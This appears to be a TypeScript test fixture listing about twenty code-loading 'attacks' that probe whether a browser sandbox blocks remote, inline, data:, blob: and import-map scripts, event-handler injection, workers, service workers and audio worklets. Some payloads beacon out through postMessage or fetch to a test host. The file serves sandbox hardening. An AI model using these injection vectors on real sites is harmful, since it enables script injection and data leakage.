import type { Attack } from '../attack';

const TELLS =
  "'top.postMessage({ leaked: ' + JSON.stringify(NAME) + ', value: 1 }, \"*\", [new MessageChannel().port1])'";
const ASKS = "'fetch(' + JSON.stringify(hit()) + ', { mode: \"no-cors\" })'";

/** Code from elsewhere, and code in threads of its own. */
export const code: Attack[] = [
  { name: 'script-remote', run: "add('script', { src: hit('x.js') });" },
  { name: 'script-module', run: "add('script', { type: 'module', src: hit('x.js') });" },
  {
    name: 'script-integrity',
    run: "add('script', { crossOrigin: 'anonymous', integrity: await bootHash(), src: hit('x.js') });",
  },
  { name: 'script-inline', run: `add('script', { textContent: ${TELLS} });` },
  {
    name: 'script-data',
    run: `add('script', { src: 'data:text/javascript,' + encodeURIComponent(${TELLS}) });`,
  },
  {
    name: 'script-blob',
    run: `add('script', { src: URL.createObjectURL(new Blob([${TELLS}])) });`,
  },
  { name: 'import-remote', run: "await import(hit('x.js'));" },
  {
    name: 'import-data',
    run: `await import('data:text/javascript,' + encodeURIComponent(${TELLS}));`,
  },
  {
    name: 'import-blob',
    run: `await import(URL.createObjectURL(new Blob([${TELLS}], { type: 'text/javascript' })));`,
  },
  {
    name: 'import-map',
    run: `add('script', { type: 'importmap', textContent: JSON.stringify({ imports: { leak: hit('x.js') } }) });
await import('leak');`,
  },
  { name: 'event-handler', run: `put('<img src="data:,">').setAttribute('onerror', ${TELLS});` },
  { name: 'worker-remote', run: "new Worker(APP + '/hit.js?attack=' + NAME);" },
  {
    name: 'worker-data',
    run: `new Worker('data:text/javascript,' + encodeURIComponent(${ASKS}));`,
  },
  { name: 'worker-blob', run: `new Worker(URL.createObjectURL(new Blob([${ASKS}])));` },
  {
    name: 'worker-module',
    run: `new Worker(URL.createObjectURL(new Blob([${ASKS}], { type: 'text/javascript' })), { type: 'module' });`,
  },
  {
    name: 'worker-import-scripts',
    run: "new Worker(URL.createObjectURL(new Blob(['importScripts(' + JSON.stringify(hit('x.js')) + ')'])));",
  },
  {
    name: 'worker-shared',
    run: `new SharedWorker('data:text/javascript,' + encodeURIComponent(${ASKS}));`,
  },
  {
    name: 'worker-service',
    run: "await navigator.serviceWorker.register('/hit.js?attack=' + NAME); tell('registered');",
  },
  {
    name: 'worklet-audio',
    run: "await new AudioContext().audioWorklet.addModule(hit('x.js'));",
  },
];
